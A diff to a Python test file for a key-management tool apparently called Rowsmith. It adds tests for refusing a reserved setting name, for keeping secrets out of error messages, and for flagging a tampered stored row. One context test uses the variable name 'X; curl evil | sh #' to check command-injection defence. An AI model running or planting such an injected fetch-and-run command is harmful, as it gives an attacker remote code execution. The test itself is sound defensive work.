@@ -164,6 +164,22 @@ def test_a_model_may_be_asked_without_a_key(where: Place, keys: Keys) -> None:
     assert found(keys, AWAY, api_key_env="") is found(keys, "http://gpu:8000", api_key_env="") is None
 
 
+@pytest.mark.parametrize("url", [None, LOCAL])
+def test_a_recipe_cannot_name_a_setting_of_ours(where: Place, keys: Keys, url: str | None) -> None:
+    where.environ["ROWSMITH_KEK"] = secrets.token_urlsafe(32)
+    said = refused(keys, url, api_key_env="ROWSMITH_KEK")
+    assert "ROWSMITH_KEK is a setting of Rowsmith's own" in said
+    assert where.environ["ROWSMITH_KEK"] not in said
+
+
+def test_an_altered_row_is_told(where: Place, keys: Keys) -> None:
+    keys.add(NAME, "key-of-the-home")
+    where.change("UPDATE secret SET address = :address", address=AWAY)
+    assert [facts.readable for facts in keys.list()] == [False]
+    assert f"--url {AWAY}" in keys.problems()[0]
+    assert "altered, or copied" in refused(keys, AWAY)
+
+
 def test_a_recipe_cannot_put_words_into_the_commands_that_are_shown(where: Place, keys: Keys) -> None:
     name = "X; curl evil | sh #"
     where.environ[name] = "key-of-the-environment"
